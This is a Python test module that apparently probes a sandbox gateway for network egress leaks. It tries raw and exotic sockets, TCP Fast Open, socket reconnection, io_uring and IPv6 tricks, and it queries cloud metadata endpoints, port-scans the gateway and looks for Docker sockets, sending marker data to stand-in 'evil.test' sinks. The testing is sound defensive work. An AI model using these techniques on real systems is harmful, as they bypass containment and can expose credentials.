# SPDX-License-Identifier: Apache-2.0
"""kernel.py - K: every system call that may move a byte out of here"""
import ctypes
import os
import socket
import struct
import subprocess
import tempfile
import threading

import hello
from net import (GATEWAY, MIRROR_PORT, PATIENCE, SINK, Verdict, errno_of, here,
                 http_answer, of_error, recv, tls_answer, udp)

GOOD, EVIL = b"good.test", b"evil.test"
OUT = b"dig-out-this"
V6 = ["2001:db8::1", "2606:4700:4700::1111", "fe80::1", "ff02::1", "ff02::2",
      "::1:2", "64:ff9b::c633:64c8", "fd00:ec2::254", "fd20:ce::254",
      "2002:c633:64c8::1"]
METADATA = ["169.254.169.254", "169.254.170.2", "100.100.100.200",
            "192.0.0.192", "168.63.129.16", "169.254.169.253",
            "169.254.42.42", "169.254.0.23"]
METADATA_NAMES = [b"metadata.google.internal", b"metadata", b"instance-data",
                  b"metadata.goog", b"instance-data.ec2.internal",
                  b"host.docker.internal", b"gateway.docker.internal",
                  b"localhost", b"ip6-localhost", b"ac-host"]
SCAN = sorted(set(range(1, 101)) | {
    123, 135, 139, 161, 389, 443, 445, 514, 631, 873, 953, 1080, 2375, 2376,
    2377, 3000, 3128, 3129, 3130, 4243, 4789, 5000, 5353, 5355, 6060, 6443,
    7777, 7946, 8000, 8080, 8125, 8443, 9000, 9090, 9100, 9153, 9323, 10250,
    50000})
building = threading.Lock()


def program():
    """static.c, compiled here: one for all probes."""
    path = os.path.join(tempfile.gettempdir(), "static-probe")
    with building:
        if os.path.exists(path):
            return path
        made = subprocess.run(
            ["gcc", "-O1", "-static", "-o", path + ".new", here("static.c")],
            capture_output=True)
        if made.returncode:
            raise RuntimeError(made.stderr.decode()[-300:])
        os.rename(path + ".new", path)
    return path


def static(how, name, to=SINK):
    """By the static program, with no environment at all."""
    def run(t):
        path = program()
        out = subprocess.run([path, how, to, str(MIRROR_PORT)], env={},
                             input=hello.hello(name), capture_output=True,
                             timeout=20)
        if out.returncode:
            number = int(out.stderr.split()[0])
            raise of_error(OSError(number, ""))
        if out.stdout[:1] == b"\x15":
            return "denied", "alert %d" % out.stdout[6]
        if not out.stdout:
            return "closed", ""
        return "open", out.stdout[5:40].decode("latin-1")
    return run


def fast_open(name):
    """TCP Fast Open: data in the very first packet (RFC 7413)."""
    def run(t):
        sock = t.sock()
        sock.settimeout(None)  # else it ends at EINPROGRESS
        try:
            sock.sendto(hello.hello(name), 0x20000000, (SINK, MIRROR_PORT))
        except BrokenPipeError:
            raise Verdict("blocked", "EPIPE: not connected, says gVisor")
        except OSError as e:
            raise of_error(e)
        sock.settimeout(PATIENCE)
        return tls_answer(sock)
    return run


def fast_open_connect(name):
    def run(t):
        sock = t.sock()
        try:
            sock.setsockopt(socket.IPPROTO_TCP, 30, 1)
            sock.connect((SINK, MIRROR_PORT))
            sock.sendall(hello.hello(name))
        except OSError as e:
            raise of_error(e)
        return tls_answer(sock)
    return run


def multipath(t):
    """Multipath TCP: to the wire it is TCP with options."""
    sock = t.sock(proto=262)
    try:
        sock.connect((SINK, MIRROR_PORT))
    except OSError as e:
        raise of_error(e)
    t.send(sock, hello.hello(EVIL))
    return tls_answer(sock)


def reconnect(t):
    """A socket that was allowed, dissolved by AF_UNSPEC, and connected to
    another place."""
    sock = t.dial(SINK, MIRROR_PORT)
    t.send(sock, hello.hello(GOOD))
    tls_answer(sock)
    libc = ctypes.CDLL(None, use_errno=True)
    errno_of(libc.connect, sock.fileno(), bytes(16), 16)
    try:
        sock.connect((SINK, MIRROR_PORT))
    except OSError as e:
        raise of_error(e)
    t.ports.append(sock.getsockname()[1])
    t.send(sock, hello.hello(EVIL))
    return tls_answer(sock)


def many_datagrams(t):
    """sendmmsg(), of two messages to two places."""
    libc = ctypes.CDLL(None, use_errno=True)

    class Header(ctypes.Structure):  # struct msghdr, with its padding
        _fields_ = [("name", ctypes.c_char_p), ("namelen", ctypes.c_uint32),
                    ("iov", ctypes.c_void_p), ("iovlen", ctypes.c_size_t),
                    ("control", ctypes.c_void_p),
                    ("controllen", ctypes.c_size_t), ("flags", ctypes.c_int)]

    class Message(ctypes.Structure):  # struct mmsghdr
        _fields_ = [("header", Header), ("sent", ctypes.c_uint)]

    iov = struct.pack("PN", ctypes.cast(ctypes.c_char_p(OUT),
                                        ctypes.c_void_p).value, len(OUT))
    place = ctypes.create_string_buffer(iov, len(iov))
    msgs = (Message * 2)()
    names = [struct.pack("=HH4s8x", socket.AF_INET, socket.htons(p),
                         socket.inet_aton(SINK)) for p in (443, 5353)]
    for msg, name in zip(msgs, names):
        head = msg.header
        head.name, head.namelen = ctypes.c_char_p(name), 16
        head.iov, head.iovlen = ctypes.addressof(place), 1
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    t.socks.append(sock)
    errno_of(libc.sendmmsg, sock.fileno(), msgs, 2, 0)
    sock.settimeout(1)
    try:
        return "open", sock.recv(99).hex()
    except OSError as e:
        raise of_error(e)


def makes(family, kind, proto, to=None):
    """A socket that must not be had; if it is, what it sends must not come
    to anything."""
    def run(t):
        try:
            sock = socket.socket(family, kind, proto)
        except OSError as e:
            # Whatever the number: there is no such socket here.
            return "blocked", of_error(e).detail
        t.socks.append(sock)
        sock.settimeout(1)
        try:
            if to is None:
                return "open", "a socket"
            sock.sendto(b"\x08\0\xf7\xff\0\0\0\0" + OUT, to)
            return "open", sock.recv(99).hex()
        except OSError as e:
            raise of_error(e)
    return run


def v6(to):
    def run(t):
        said = []
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            try:
                with socket.socket(socket.AF_INET6, kind) as sock:
                    sock.settimeout(1)
                    sock.connect((to, MIRROR_PORT))
                    sock.send(OUT)
                    said.append("open " + sock.recv(99).hex())
            except OSError as e:
                said.append(of_error(e).detail)
        bad = any(x.startswith("open") for x in said)
        return ("open" if bad else "dropped"), " ".join(said)
    return run


def mapped(name):
    """::ffff:a.b.c.d is IPv4 on the wire: the gateway sees it as such."""
    def run(t):
        try:
            sock = t.sock(socket.AF_INET6)
            sock.connect(("::ffff:" + SINK, MIRROR_PORT))
        except OSError as e:
            raise of_error(e)
        t.send(sock, hello.hello(name))
        return tls_answer(sock)
    return run


def http_at(to, port=80):
    """By its address: in the transparent way where it is, else as asked of
    the proxy."""
    def run(t):
        if t.way == "explicit":
            return t.get(to.encode())
        sock = t.dial(to, port)
        t.send(sock, b"GET /latest/meta-data/ HTTP/1.1\r\nHost: %s\r\n\r\n" %
               to.encode())
        return http_answer(sock)
    return run


def scan(t):
    """Each port of the gateway's address: words of the gateway or nothing."""
    odd = []
    for port in SCAN:
        try:
            sock = t.dial(GATEWAY, port)
            if port == 53:
                t.send(sock, b"\0\x01x")
                said = recv(sock)
            else:
                t.send(sock, b"GET / HTTP/1.1\r\nHost: 172.20.0.53\r\n\r\n")
                said = recv(sock)
            if said and not (said.startswith(b"HTTP/1.1 4") or
                             said[:1] == b"\x15"):
                odd.append("%d %s" % (port, said[:20].hex()))
        except Verdict as v:
            if v.outcome == "hung":
                odd.append("%d hung" % port)
        t.done()
    return ("leaked" if odd else "held"), " ".join(odd)


def abstract(t):
    """Names of abstract sockets are those of the network namespace."""
    found = []
    names = ["ac-attack", "/containerd-shim", "/tmp/.X11-unix/X0",
             "/org/freedesktop/systemd1/notify"]
    try:
        for line in open("/proc/net/unix"):
            word = line.split()[-1]
            if word.startswith("@"):
                names.append(word[1:])
    except OSError:
        pass
    for name in names:
        with socket.socket(socket.AF_UNIX) as sock:
            try:
                sock.connect("\0" + name)
                found.append(name)
            except OSError:
                pass
    return ("leaked" if found else "held",
            " ".join(found))


def paths(t):
    """Sockets that are files: none belongs to anybody else."""
    found = [p for p in ("/var/run/docker.sock", "/run/docker.sock",
                         "/run/containerd/containerd.sock", "/run/ac",
                         "/run/dbus/system_bus_socket", "/var/lib/ac",
                         "/run/ac/gate.sock", "/usr/share/ac")
             if os.path.exists(p)]
    return ("leaked" if found else "held"), " ".join(found)


def policy_files(t):
    """K14: no file here says what is allowed, and none can be written."""
    found = []
    for top in ("/var/lib/ac", "/etc/ottergate", "/usr/share/ac",
                "/run/ottergate"):
        if os.path.exists(top):
            found.append(top)
    return ("leaked" if found else "held"), " ".join(found)


def register_packets(add):
    def one(row, case, run):
        add(row, case, run, ways="transparent")

    inet, raw = socket.AF_INET, socket.SOCK_RAW
    for proto in (1, 2, 6, 17, 41, 47, 50, 51, 132, 255):
        one("K4", "raw socket %d" % proto,
            makes(inet, raw, proto, (SINK, 0)))
    one("K4", "packet socket", makes(17, raw, 0x0300))
    one("K4", "packet socket, cooked", makes(17, socket.SOCK_DGRAM, 0x0300))
    one("K4", "ping socket", makes(inet, socket.SOCK_DGRAM, 1, (SINK, 0)))
    one("K4", "ping the gateway",
        makes(inet, socket.SOCK_DGRAM, 1, (GATEWAY, 0)))
    one("K4", "raw IPv6 socket", makes(socket.AF_INET6, raw, 58,
                                       ("ff02::1", 0)))
    one("K4", "SCTP", makes(inet, socket.SOCK_STREAM, 132))
    one("K4", "DCCP", makes(inet, 6, 33))
    one("K4", "UDP-Lite", makes(inet, socket.SOCK_DGRAM, 136, (SINK, 443)))
    one("K4", "XDP", makes(44, raw, 0))
    for to in V6:
        one("K5", to, v6(to))
    one("K5-mapped", "evil", mapped(EVIL))
    one("K5-mapped-good", "good", mapped(GOOD))


def register(add):
    def one(row, case, run):
        add(row, case, run, ways="transparent")

    one("K1", "static, evil", static("tcp", EVIL))
    one("K1", "static, no name", static("tcp", None))
    one("K1-good", "static, good", static("tcp", GOOD))
    one("K2", "MSG_FASTOPEN", fast_open(EVIL))
    one("K2", "TCP_FASTOPEN_CONNECT", fast_open_connect(EVIL))
    one("K2", "AF_UNSPEC", reconnect)
    one("K2", "MPTCP", multipath)
    one("K2-udp", "sendmmsg", many_datagrams)
    one("K2-udp", "sendto", lambda t: (udp(SINK, 443, OUT)[0], ""))
    one("K3", "io_uring, evil", static("uring", EVIL))
    register_packets(add)
    for to in METADATA:
        add("K6", to, http_at(to))
    for name in METADATA_NAMES:
        add("K6-name", name.decode(), lambda t, n=name: t.get(n))
        add("K6-name", "tls " + name.decode(), lambda t, n=name: t.hello(
            hello.hello(n), connect=n, port=443))
    for to in ("172.17.0.1", "172.20.0.1", "172.18.0.1", "203.0.113.1",
               GATEWAY, "192.0.2.1"):
        add("K7", to, http_at(to))
        one("K7", to + " docker", http_at(to, 2375))
        one("K7-udp", to, lambda t, a=to: (udp(a, 7777, OUT)[0], ""))
    one("K7-scan", "ports of the gateway", scan)
    one("K7-files", "sockets", paths)
    one("K8", "abstract sockets", abstract)
    one("K8-vsock", "vsock", makes(40, socket.SOCK_STREAM, 0, (2, 1024)))
    one("K8-vsock", "bluetooth", makes(31, socket.SOCK_STREAM, 3))
    one("K8-vsock", "TIPC", makes(30, socket.SOCK_SEQPACKET, 0))
    one("K14", "files of the policy", policy_files)
